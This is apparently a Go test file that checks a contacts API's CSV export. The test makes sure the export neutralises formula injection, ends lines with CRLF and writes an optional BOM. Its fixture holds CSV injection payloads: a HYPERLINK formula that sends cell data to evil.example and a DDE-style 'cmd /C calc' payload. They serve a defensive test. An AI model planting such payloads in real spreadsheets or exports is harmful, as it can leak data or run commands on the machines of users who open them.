package rest_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/hivematrix/codex/codex"
	"github.com/hivematrix/codex/store"
	"github.com/hivematrix/codex/store/storetest"
)

// TestCSVInjection checks that a CSV export defuses formulas as OWASP advises (a cell
// beginning with =, +, -, @, tab or CR gets a leading '), ends lines with CRLF (RFC 4180)
// and starts with a UTF-8 byte order mark when asked with ?bom=true.
func TestCSVInjection(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx", "\rx"}
		for i, name := range evil {
			f.must(f.db.CreateContact(f.sys, &codex.Contact{CompanyID: f.globex.ID, FirstName: "Évé", LastName: name,
				Email: "evil" + string(rune('a'+i)) + "@globex.example", Active: true}))
		}
		b := f.expect(req{as: "admin", path: "/api/contacts?format=csv&bom=true&company_id=" + strconv.FormatInt(f.globex.ID, 10)}, http.StatusOK)
		if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBFid,")) {
			t.Errorf("export starts %q; want a UTF-8 BOM then the header", b[:min(10, len(b))])
		}
		if n, crlf := bytes.Count(b, []byte("\n")), bytes.Count(b, []byte("\r\n")); n != crlf || n < len(evil)+1 {
			t.Errorf("%d line ends, %d of them CRLF; want every line to end with CRLF", n, crlf)
		}
		records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := -1
		for i, h := range records[0] {
			if h == "last_name" {
				col = i
			}
		}
		got := map[string]bool{}
		for _, rec := range records[1:] {
			got[rec[col]] = true
		}
		for _, name := range evil {
			if want := "'" + name; !got[want] {
				t.Errorf("last_name %q not exported as %q (got %v)", name, want, got)
			}
		}
		if !got["Scorpio"] {
			t.Errorf("a plain name is changed: %v", got)
		}
		// Without ?bom, no BOM; a bad value is a problem.
		b = f.expect(req{as: "admin", path: "/api/contacts?format=csv"}, http.StatusOK)
		if !strings.HasPrefix(string(b), "id,") {
			t.Errorf("export without bom starts %q", b[:min(10, len(b))])
		}
		f.problem(req{as: "admin", path: "/api/contacts?format=csv&bom=maybe"}, http.StatusBadRequest, "bom")
	})
}
